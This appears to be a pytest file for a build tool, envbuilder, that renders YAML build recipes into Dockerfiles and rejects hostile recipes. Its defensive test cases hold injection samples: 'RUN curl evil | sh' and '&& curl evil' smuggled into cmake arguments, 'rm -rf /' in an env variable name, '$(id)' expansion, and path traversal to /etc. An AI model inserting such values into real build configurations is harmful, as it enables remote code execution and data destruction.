"""Build recipes come from data: a package envbuilder has never heard of gets its binary recipe, its
env knobs and its CUDA checks from the matrix and the knowledge base alone, and a hostile recipe is
refused before anything is rendered (exit 2, naming file, line and key)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from envbuilder.build.render import render
from envbuilder.errors import BadInput
from envbuilder.lock.model import BuildRecipe, Facets, Lock
from envbuilder.matrix import load_target
from tests.build.conftest import blackwell_lock, fake_sha, sdist_pkg, wheel_pkg
from tests.build.test_render import stage_text
from tests.resolve.project import PINNED_IMAGE

CPU_MATRIX = f"""schema: 1
target: synth-cpu
platform: {{os: linux, machine: x86_64, libc: glibc_2.36, python: "3.11"}}
toolchain: {{base_image: "{PINNED_IMAGE}", apt: [python3]}}
packages:
  my-tool:
    version: "==1.2"
    build: {{from: sdist, target: my-server, apt: [cmake]}}
knowledge:
  binary_recipes:
    - name: my-server
      source_dir: native/server
      cmake_target: my-server
      output: out/my-server
      cmake_defaults: [-DMY_FAST=ON, "-DMY_NAME=$(id) two words"]
      runtime_apt: [libfoo1]
      source: "https://example.invalid/my-tool/CMakeLists.txt"
"""

GPU_MATRIX = f"""schema: 1
target: synth-gpu
hardware: {{gpu: {{name: Some GPU, arch: sm_120, count: 1, memory_gib: 32}}}}
platform: {{os: linux, machine: x86_64, libc: glibc_2.39, python: "3.12"}}
toolchain: {{base_image: "{PINNED_IMAGE}", cuda: "12.8"}}
packages:
  abi-base: "==1.0"
  my-kernels: {{version: "==2.0", build: {{from: sdist}}}}
knowledge:
  binaries:
    - package: my-kernels
      versions: ">=2"
      arch_env: MYK_ARCHS
      build_env: {{forced: {{MYK_FORCE_BUILD: "TRUE"}}, cxx11_abi: MYK_CXX11_ABI, arch_spelling: dotted}}
      source: "https://example.invalid/my-kernels/setup.py"
"""


def _lock(target: str, packages: tuple, toolchain: dict) -> Lock:
    return Lock(target=target, matrix_digest="sha256:" + fake_sha(target), knowledge_digest="sha256:" + fake_sha("k"),
                environment={"python": "3.12", "os": "linux", "machine": "x86_64", "libc": "glibc_2.39"},
                toolchain={"base-image": PINNED_IMAGE, "base-image-pinned": True, "source-date-epoch": 1771000000,
                           **toolchain},
                indexes=("pypi",), packages=packages)


def cpu_lock() -> Lock:
    recipe = BuildRecipe({}, None, (), "sha256:" + fake_sha("my-tool"))
    return _lock("synth-cpu", (sdist_pkg("my-tool", "1.2", recipe),), {})


def gpu_lock(cuda: str = "12.8") -> Lock:
    """An ABI provider named `abi-base` (not torch) and a CUDA extension built against it."""
    provider = wheel_pkg("abi-base", "1.0", (), "cp312-cp312-manylinux_2_28_x86_64",
                         Facets(cuda="12.8", cxx11_abi=True))
    recipe = BuildRecipe({}, "12.8", ("abi-base==1.0",), "sha256:" + fake_sha("my-kernels"))
    return _lock("synth-gpu", (provider, sdist_pkg("my-kernels", "2.0", recipe, ("abi-base",))),
                 {"cuda": cuda, "gpu-arch": "sm_120"})


def _matrix(root: Path, name: str, text: str) -> Path:
    path = root / "matrices" / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_a_matrix_defined_binary_recipe_builds_an_unknown_package(tmp_path: Path) -> None:
    rendered = render(cpu_lock(), load_target(_matrix(tmp_path, "synth-cpu", CPU_MATRIX)))
    stage = stage_text(rendered.dockerfile, "build-my-tool")
    assert "cmake -S /opt/envbuilder/build/src/native/server -B /opt/envbuilder/build/cmake" in stage
    assert "-DMY_FAST=ON '-DMY_NAME=$(id) two words' ${CMAKE_ARGS:-}" in stage  # one quoted word, no expansion
    assert "--target my-server" in stage and "/opt/envbuilder/build/cmake/out/my-server /out/bin/my-server" in stage
    assert "COPY --from=build-my-tool /out/bin/my-server /usr/local/bin/my-server" in rendered.dockerfile
    assert "libfoo1" in stage_text(rendered.dockerfile, "runtime")
    (product,) = json.loads(rendered.files["image/image.json"])["products"]
    assert product == {"package": "my-tool", "version": "1.2", "kind": "binary", "path": "/usr/local/bin/my-server"}


def test_a_matrix_recipe_replaces_the_shipped_one_of_the_same_name(tmp_path: Path) -> None:
    text = CPU_MATRIX.replace("my-server", "llama-server")
    lock = cpu_lock()
    rendered = render(lock, load_target(_matrix(tmp_path, "synth-cpu", text)))
    stage = stage_text(rendered.dockerfile, "build-my-tool")
    assert "/build/src/native/server " in stage and "vendor/llama.cpp" not in stage


def test_knowledge_env_knobs_and_abi_facets_for_an_unknown_package(tmp_path: Path) -> None:
    rendered = render(gpu_lock(), load_target(_matrix(tmp_path, "synth-gpu", GPU_MATRIX)))
    stage = stage_text(rendered.dockerfile, "build-my-kernels")
    assert 'ENV MYK_ARCHS="12.0"' in stage  # arch_spelling: dotted
    assert 'ENV MYK_FORCE_BUILD="TRUE"' in stage
    assert 'ENV MYK_CXX11_ABI="TRUE"' in stage  # abi-base's locked facet says cxx11
    assert 'ENV TORCH_CUDA_ARCH_LIST="12.0"' in stage and 'ENV CUDA_HOME="/usr/local/cuda-12.8"' in stage
    assert "FLASH_ATTENTION" not in rendered.dockerfile


def test_cuda_major_check_reads_a_provider_not_named_torch(tmp_path: Path) -> None:
    target = load_target(_matrix(tmp_path, "synth-gpu", GPU_MATRIX))
    with pytest.raises(BadInput) as info:
        render(gpu_lock(cuda="13.0"), target)
    message = str(info.value)
    assert info.value.exit_code == 2
    assert "key 'toolchain.cuda' is 13.0 but abi-base 1.0 was built for CUDA 12.8" in message
    assert "same CUDA major" in message and "set toolchain.cuda to 12.8" in message


def test_cuda_major_check_without_source_builds_uses_the_knowledges_abi_provider(project: Path) -> None:
    """A stack that compiles nothing still JIT-compiles against its ABI provider at run time."""
    lock = blackwell_lock()
    lock = lock.replace_packages(tuple(p for p in lock.packages if p.build is None))
    lock = type(lock)(**{**lock.__dict__, "toolchain": {**lock.toolchain, "cuda": "13.0"}})
    with pytest.raises(BadInput, match="torch 2.9.1 was built for CUDA 12.8"):
        render(lock, load_target("blackwell-sm120"))


# (case, YAML text replaced, its replacement, the key the message names, words it holds)
HOSTILE = [
    ("newline-in-cmake-arg", "-DMY_FAST=ON,", '"-DMY_FAST=ON\\nRUN curl evil | sh",',
     "knowledge.binary_recipes.0.cmake_defaults.0", "control character"),
    ("cmake-arg-not-an-option", "-DMY_FAST=ON,", "'&& curl evil',", "knowledge.binary_recipes.0.cmake_defaults.0",
     "a cmake option"),
    ("source-dir-escapes", "source_dir: native/server", "source_dir: ../../../etc",
     "knowledge.binary_recipes.0.source_dir", "inside the source tree"),
    ("source-dir-absolute", "source_dir: native/server", "source_dir: /etc",
     "knowledge.binary_recipes.0.source_dir", "inside the source tree"),
    ("output-escapes", "output: out/my-server", "output: out/../../x", "knowledge.binary_recipes.0.output",
     "inside the source tree"),
    ("target-with-space", "cmake_target: my-server", "cmake_target: 'my server'",
     "knowledge.binary_recipes.0.cmake_target", "a recipe or cmake target name"),
    ("apt-option", "runtime_apt: [libfoo1]", "runtime_apt: [--allow-unauthenticated]",
     "knowledge.binary_recipes.0.runtime_apt.0", "a Debian package name"),
]


@pytest.mark.parametrize(("case", "old", "new", "key", "words"), HOSTILE, ids=[c[0] for c in HOSTILE])
def test_hostile_binary_recipe_is_exit_2_naming_file_line_and_key(tmp_path: Path, case: str, old: str, new: str,
                                                                   key: str, words: str) -> None:
    assert old in CPU_MATRIX
    text = CPU_MATRIX.replace(old, new, 1)
    line = next(i for i, row in enumerate(text.splitlines(), 1) if new.split(":")[0].strip("'\"[,") in row)
    with pytest.raises(BadInput) as info:
        load_target(_matrix(tmp_path, "synth-cpu", text))
    assert info.value.exit_code == 2
    assert f"synth-cpu.yaml:{line}: key '{key}'" in str(info.value) and words in str(info.value), str(info.value)


@pytest.mark.parametrize(("old", "new", "key"), [
    ("forced: {MYK_FORCE_BUILD: ", "forced: {'MYK FORCE;rm -rf /': ", "knowledge.binaries.0.build_env.forced"),
    ("cxx11_abi: MYK_CXX11_ABI", "cxx11_abi: 'X=1 Y'", "knowledge.binaries.0.build_env.cxx11_abi"),
    ("arch_spelling: dotted", "arch_spelling: roman", "knowledge.binaries.0.build_env.arch_spelling"),
], ids=["forced-name", "cxx11-name", "spelling"])
def test_hostile_env_knob_is_exit_2_naming_file_line_and_key(tmp_path: Path, old: str, new: str, key: str) -> None:
    text = GPU_MATRIX.replace(old, new, 1)
    line = next(i for i, row in enumerate(text.splitlines(), 1) if "build_env:" in row)
    with pytest.raises(BadInput) as info:
        load_target(_matrix(tmp_path, "synth-gpu", text))
    assert info.value.exit_code == 2
    assert f"synth-gpu.yaml:{line}: key '{key}" in str(info.value), str(info.value)


def test_unknown_recipe_lists_the_known_ones_and_says_where_to_add_one(tmp_path: Path) -> None:
    text = CPU_MATRIX.replace("target: my-server", "target: my-cli")
    with pytest.raises(BadInput) as info:
        render(cpu_lock(), load_target(_matrix(tmp_path, "synth-cpu", text)))
    assert "synth-cpu.yaml:8: key 'packages.my-tool.build.target': no recipe for 'my-cli'" in str(info.value)
    assert "known: llama-server, my-server" in str(info.value) and "binary_recipes" in str(info.value)


def test_build_only_facts_stay_out_of_the_knowledge_digest() -> None:
    """Editing a recipe or a build knob changes the Dockerfile, not the locks (their knowledge digest)."""
    from envbuilder.knowledge import Knowledge, load_knowledge

    shipped = load_knowledge()
    data = shipped.model_dump(mode="json")
    data["binary_recipes"] = []
    data["binaries"] = [{**b, "build_env": None} for b in data["binaries"]]
    assert shipped.binary_recipes and Knowledge.model_validate(data).digest == shipped.digest
    data["binaries"][0]["source"] += " (edited)"
    assert Knowledge.model_validate(data).digest != shipped.digest
